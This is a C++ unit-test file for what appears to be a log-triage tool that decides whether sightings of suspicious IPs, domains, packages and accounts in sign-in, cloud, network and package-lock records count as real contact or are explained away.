    Scene scene(ValueType::ipv4, "203.0.113.9");
    scene.file("okta_system_log")
        .sighting(in_session("203.0.113.9", "", "session-1"), {Attribute::src_ip})
        .around(ValueType::account, "kim", in_session("203.0.113.9", "true", session))
        .around(ValueType::account, "kim", in_session("198.51.100.1", "", "session-0"));
    EXPECT_EQ(scene.finding().status == FindingStatus::explained, session == "session-1") << session;
  }
}

TEST(SharedExit, TakesTheInventorysWordForWhoseDeviceItIs) {
  for (const std::string_view user : {"kim", "lou"}) {
    Scene scene(ValueType::ipv4, "203.0.113.9");
    model::Device device = ordinary();
    device.user = user;
    scene.file("jumpcloud_directory_insights")
        .device(device)
        .sighting(sign_in("203.0.113.9", "user", "true", "macOS"), {Attribute::src_ip});
    EXPECT_EQ(scene.finding().status == FindingStatus::explained, user == "kim") << user;
  }
}

/// Without a sign-in to compare with, the publisher's word that many share the address tells enough of an ordinary user.
TEST(SharedExit, NeedsNoUsualClientWhereThePublisherSaysThatManyShareTheAddress) {
  const auto judged = [](model::Role role, std::string_view type, std::string_view mfa, std::string_view owner) {
    Scene scene(ValueType::ipv4, "203.0.113.9");
    scene.indicators[0].role = role;
    model::Device device = ordinary();
    device.user = owner;
    scene.file("jumpcloud_directory_insights")
        .device(device)
        .sighting(sign_in("203.0.113.9", type, mfa, "macOS"), {Attribute::src_ip});
    return scene.finding().status == FindingStatus::explained;
  };
  using enum model::Role;
  EXPECT_TRUE(judged(shared_infrastructure, "user", "true", ""));
  EXPECT_FALSE(judged(c2, "user", "true", ""));
  EXPECT_FALSE(judged(shared_infrastructure, "admin", "true", ""));
  EXPECT_FALSE(judged(shared_infrastructure, "user", "false", ""));
  EXPECT_FALSE(judged(shared_infrastructure, "user", "true", "lou")) << "with somebody else's device";
}

TEST(SharedExit, ExplainsNothingOnADeviceThatIsInQuestionAnyway) {
  Scene scene(ValueType::ipv4, "203.0.113.9");
  scene.file("jumpcloud_directory_insights")
      .device(ordinary())
      .sighting(sign_in("203.0.113.9", "user", "true", "macOS"), {Attribute::src_ip})
      .sighting(connection("10.1.0.7", "203.0.113.9", "SF"), {Attribute::dst_ip})
      .around(ValueType::account, "kim", sign_in("198.51.100.1", "user", "true", "macOS"));
  for (const auto& finding : scene.findings()) EXPECT_EQ(finding.status, FindingStatus::counts) << finding.text;
}

TEST(SignIn, ThatFailedIsExplained) {
  Scene scene(ValueType::ipv4, "203.0.113.9");
  scene.file("jumpcloud_directory_insights")
      .sighting(sign_in("203.0.113.9", "user", "false", "Linux", false), {Attribute::src_ip});
  expect_explained(scene.finding(), "failed-sign-in");
}

TEST(Calls, ThatTheKeyHadNoRightToShowThatSomebodyHasTheKey) {
  const auto finding = [](std::string_view error, std::string_view key) {
    auto event = event_of(EventClass::api_activity, noon_text,
                          {{Attribute::src_ip, "203.0.113.9"},
                           {Attribute::actor_user_name, "deploy"},
                           {Attribute::api_operation, "ListUsers"},
                           {Attribute::api_error, error}});
    if (!key.empty()) event.add(Attribute::actor_credential_uid, key);
    event.status = model::Status::failure;
    Scene scene(ValueType::ipv4, "203.0.113.9");
    scene.file("cloudtrail").sighting(std::move(event), {Attribute::src_ip});
    return scene.finding();
  };
  expect_counts(finding("AccessDenied", "AKIAEXAMPLE0000000001"), Grade::authenticated);
  expect_explained(finding("AccessDenied", ""), "failed-sign-in");
  expect_explained(finding("InvalidClientTokenId", "AKIAEXAMPLE0000000001"), "failed-sign-in");
}

TEST(Package, PlaceholderIsHarmlessAndAnotherVersionIsNot) {
  const auto lock = [](std::string_view version) {
    return event_of(EventClass::other, "",
                    {{Attribute::package_name, "left-pod"}, {Attribute::package_version, version}});
  };
  Scene placeholder(ValueType::package, "left-pod");
  placeholder.file("npm_lock").sighting(lock("0.0.1-security"), {Attribute::package_name});
  expect_explained(placeholder.finding(), "package-placeholder");
  Scene real(ValueType::package, "left-pod");
  real.file("npm_lock").sighting(lock("1.4.2"), {Attribute::package_name});
  expect_counts(real.finding(), Grade::mentioned);
}

TEST(Package, OfAVersionThatWasNotPublishedIsNotMeant) {
  struct Row {
    std::string_view note, version;
    bool explained;
  };
  for (const Row& row :
       {Row{"2.4.1 (npm)", "2.4.0", true}, Row{"2.4.1 (npm)", "2.4.1", false},
        Row{"versions 2.4.1, v2.4.2.", "2.4.2", false}, Row{"versions 2.4.1, v2.4.2.", "2.5.0", true},
        Row{"2.4.1 and earlier", "2.4.0", false}, Row{"<2.4.1", "2.4.0", false}, Row{"", "2.4.0", false},
        Row{"malicious package", "2.4.0", false},
        Row{"From 1 May to 3 May 2026 the versions 2.4.1 and 2.4.2 of it held code that read tokens.", "2.4.0", true},
        Row{"From 1 May to 3 May 2026 the versions 2.4.1 and 2.4.2 of it held code that read tokens.", "2.4.2", false},
        Row{"The versions 2.4.1 to 2.4.6 held code that read tokens.", "2.4.3", false},
        Row{"The versions 2.4.1 and all later ones held such code.", "2.5.0", false},
        Row{"Upgrade to 2.4.3: the version 2.4.1 held such code.", "2.4.0", false}}) {
    Scene scene(ValueType::package, "left-pod");
    scene.indicators[0].note = row.note;
    scene.file("npm_lock")
        .sighting(event_of(EventClass::other, "",
                           {{Attribute::package_name, "other-pod"},
                            {Attribute::package_version, "2.4.1"},
                            {Attribute::package_name, "left-pod"},
                            {Attribute::package_version, row.version}}),
                  {Attribute::package_name});
    EXPECT_EQ(scene.finding().rule == "package-other-version", row.explained) << row.note << " | " << row.version;
  }
}

TEST(Package, NamedInABuildLogIsNotInstalled) {
  Scene scene(ValueType::package, "left-pod");
  scene.file("text").sighting(event_of(EventClass::other, noon_text, {{Attribute::message, "Malware in left-pod"}}),
                              {Attribute::message});
  expect_explained(scene.finding(), "package-named-only");
}

TEST(IndicatorList, AtRestIsExplainedAndALogIsNot) {
  const auto line = [](std::string_view time) {
    return event_of(EventClass::other, time, {{Attribute::message, "bad.example"}});
  };
  Scene list(ValueType::domain, "bad.example");
  list.file("text").sighting(line(""), {Attribute::message});
  list.scan.files[0].events = 5;
  list.scan.files[0].records_with_hits = 5;
  list.scan.files[0].records_with_time = 0;
  list.scan.files[0].distinct_indicators = 5;
  expect_explained(list.finding(), "indicator-list-at-rest");

  const auto row_of_device = [&](std::string_view device) {
    Scene scene(ValueType::domain, "bad.example");
    scene.file("text").sighting(event_of(EventClass::other, "", {{Attribute::device_hostname, device}}),
                                {Attribute::message});
    scene.scan.files[0].events = scene.scan.files[0].records_with_hits = 5;
    scene.scan.files[0].records_with_time = 0;
    scene.scan.files[0].distinct_indicators = 5;
    return scene.finding();
  };
  // What a search on all devices brought back says where it was found; a list that calls its domains hosts does not.
  expect_counts(row_of_device("ws-1"), Grade::mentioned);
  expect_explained(row_of_device("bad.example"), "indicator-list-at-rest");

  Scene log(ValueType::domain, "bad.example");
  log.file("text").sighting(line(noon_text), {Attribute::message});
  expect_counts(log.finding(), Grade::mentioned);
}

TEST(IndicatorList, ALineOfABlockListHasTheValueAndNothingMore) {
  struct Line {
    std::string_view raw;
    bool explained;
  };
  const auto finding = [](std::string_view raw, std::string_view file, std::string_view time) {
    Scene scene(ValueType::domain, "bad.example");
    scene.file("text").device(ordinary()).sighting(event_of(EventClass::other, time, {}), {Attribute::message});
    scene.scan.kept[0].sightings[0].raw = raw;
    scene.scan.files[0].name = file;
    scene.scan.files[0].records_with_time = 0;
    return scene.finding();
  };
  for (const Line& line : {Line{"bad.example", true},
                           {"  \"bad.example\",", true},
                           {"0.0.0.0 bad.example", true},
                           {"||bad.example^", true},
                           {"*.bad.example CNAME .", true},
                           {"local-zone: \"bad.example\" always_nxdomain", true},
                           {"address=/bad.example/", true},
                           {"bad.example,domain,block", true},
                           {"10.1.0.7 bad.example", false},
                           {"desk-7 bad.example", false},
                           {"visited bad.example", false}}) {
    const auto of_line = finding(line.raw, "lists/block.txt", "");
    EXPECT_EQ(of_line.status == FindingStatus::explained, line.explained) << line.raw;
  }
  expect_counts(finding("bad.example", "lists/block.txt", noon_text), Grade::mentioned);
  // What was found on a device may be listed without a word.
  expect_counts(finding("bad.example", "desk-7/visited.txt", ""), Grade::mentioned);
}

TEST(Mail, NamesAndDoesNotFollow) {
  Scene scene(ValueType::domain, "bad.example");
  scene.file("mail").sighting(
      event_of(EventClass::email_activity, noon_text, {{Attribute::email_subject, "New certificates"}}), {});
  expect_explained(scene.finding(), "mail");
}

TEST(Parameters, OfACallAreNotItsOrigin) {
  Scene scene(ValueType::ipv4, "203.0.113.9");
  auto event = event_of(EventClass::api_activity, noon_text,
                        {{Attribute::src_ip, "198.51.100.1"},
                         {Attribute::api_operation, "CreateIPSet"},
                         {Attribute::resource_name, "203.0.113.9"}});
  event.status = model::Status::success;
  scene.file("cloudtrail").sighting(std::move(event), {Attribute::resource_name});
  expect_explained(scene.finding(), "named-in-parameters");
}

TEST(Parameters, AreTheFindingWhereAListedAccountIsMade) {
  Scene scene(ValueType::account, "mothadmin");
  auto event = event_of(EventClass::account_change, noon_text,
                        {{Attribute::actor_user_name, "kim"}, {Attribute::resource_name, "mothadmin"}});
  event.activity = model::activity::create;
  event.status = model::Status::success;
  scene.file("firewall").sighting(std::move(event), {Attribute::resource_name});
  expect_counts(scene.finding(), Grade::mentioned);
}

TEST(Program, ThatSpokeOrAskedHasRun) {
  for (const auto event_class : {EventClass::network_activity, EventClass::http_activity, EventClass::dns_activity}) {
    Scene scene(ValueType::file_name, "tool.exe");
    scene.file("windows_sysmon")
        .device(ordinary())
        .sighting(event_of(event_class, noon_text,
                           {{Attribute::src_ip, "10.1.0.7"},
                            {Attribute::dst_ip, "198.51.100.1"},
                            {Attribute::actor_process_path, "C:\\tool.exe"}}),
                  {Attribute::actor_process_path});
    expect_counts(scene.finding(), Grade::executed);
  }
}

TEST(NamedElsewhere, AWebRequestToAnotherHostIsNoContact) {
  Scene scene(ValueType::domain, "bad.example");
  scene.file("zeek_http")
      .device(ordinary())
      .sighting(event_of(EventClass::http_activity, noon_text,
                         {{Attribute::src_ip, "10.1.0.7"},
                          {Attribute::http_host, "lookup.example"},
                          {Attribute::http_path, "/domain/bad.example"},
                          {Attribute::http_status, "200"}}),
                {Attribute::http_path});
  expect_explained(scene.finding(), "named-in-another-request");
}

TEST(Connect, WithoutATunnelIsNoContact) {
  const auto finding = [](std::string_view method, std::string_view status) {
    Scene scene(ValueType::domain, "bad.example");
    scene.file("web_access")
        .device(ordinary())
        .sighting(event_of(EventClass::http_activity, noon_text,
                           {{Attribute::src_ip, "10.1.0.7"},
                            {Attribute::http_host, "bad.example"},
                            {Attribute::http_method, method},
                            {Attribute::http_status, status}}),
                  {Attribute::http_host});
    return scene.finding();
  };
  expect_explained(finding("CONNECT", "403"), "refused");
  expect_counts(finding("CONNECT", "200"), Grade::contacted);
  expect_counts(finding("GET", "403"), Grade::contacted);
}

TEST(NamedElsewhere, InThePathOfAUrlItIsNotTheHost) {
  const auto finding = [](ValueType type, std::string_view value, std::string_view url) {
    Scene scene(type, value);
    scene.file("proxy")
        .device(ordinary())
        .sighting(event_of(EventClass::http_activity, noon_text,
                           {{Attribute::src_ip, "10.1.0.7"}, {Attribute::url, url}, {Attribute::http_status, "200"}}),
                  {Attribute::url});
    return scene.finding();
  };
  for (const std::string_view url : {"https://lookup.example/domain/bad.example", "lookup.example/?q=bad.example",
                                     "https://lookup.example:8443/r?to=https://bad.example/x"})
    expect_explained(finding(ValueType::domain, "bad.example", url), "named-in-another-request");
  for (const std::string_view url : {"https://bad.example/x", "bad.example:443", "http://kim@bad.example/?bad.example"})
    expect_counts(finding(ValueType::domain, "bad.example", url), Grade::contacted);
  expect_counts(finding(ValueType::url, "https://bad.example/x", "https://bad.example/x"), Grade::contacted);
  expect_explained(finding(ValueType::url, "https://bad.example/x", "https://lookup.example/?u=https://bad.example/x"),
                   "named-in-another-request");
}

TEST(Findings, TheSameRecordTwiceIsOneAndIsCounted) {
  Scene scene(ValueType::ipv4, "203.0.113.9");
  scene.file("zeek_conn").device(ordinary()).sighting(connection("10.1.0.7", "203.0.113.9", "SF"), {Attribute::dst_ip});
  scene.scan.kept[0].sightings.push_back(scene.scan.kept[0].sightings[0]);
  scene.scan.kept[0].sightings[1].place.line = 9;
  scene.scan.kept[0].records = 2;
  const auto findings = scene.findings();
  ASSERT_EQ(findings.size(), 1U);
  EXPECT_EQ(findings[0].evidence.size(), 1U);
  EXPECT_EQ(findings[0].repeats, 1U);
}

TEST(Findings, AreNumberedInOrderOfTime) {
  Scene scene(ValueType::ipv4, "203.0.113.9");
  scene.file("zeek_conn")
      .device(ordinary())
      .device({"desk-8", "dev8", {"10.1.0.8"}, "lou", "macOS", "employee laptop", 0})
      .sighting(connection("10.1.0.8", "203.0.113.9", "SF", "2030-05-11T00:00:00Z"), {Attribute::dst_ip})
      .sighting(connection("10.1.0.7", "203.0.113.9", "SF", "2030-05-10T00:00:00Z"), {Attribute::dst_ip});
  const auto findings = scene.findings();
  ASSERT_EQ(findings.size(), 2U);
  EXPECT_EQ(findings[0].id, "F1");
  EXPECT_EQ(findings[0].device, "desk-7");
  EXPECT_EQ(findings[1].device, "desk-8");
}

}  // namespace
}  // namespace clew::inquiry
